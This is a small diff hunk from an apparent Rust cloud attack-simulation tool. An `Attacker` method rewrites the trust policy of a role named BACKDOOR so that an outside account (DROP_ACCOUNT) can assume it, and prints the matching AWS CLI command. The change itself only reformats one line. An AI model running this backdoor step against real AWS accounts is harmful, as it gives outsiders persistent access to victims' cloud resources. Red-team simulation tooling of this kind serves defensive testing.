@@ -75,7 +75,8 @@ impl Attacker {
         );
         let changed = self.key.iam().update_assume_role_policy().role_name(BACKDOOR).policy_document(document);
         let changed = changed.send().await;
-        let call = format!("aws iam update-assume-role-policy --role-name {BACKDOOR} --policy-document file://trust.json");
+        let call =
+            format!("aws iam update-assume-role-policy --role-name {BACKDOOR} --policy-document file://trust.json");
         self.show(&call, &changed, |_| format!("trusts account {DROP_ACCOUNT}"));
     }
 
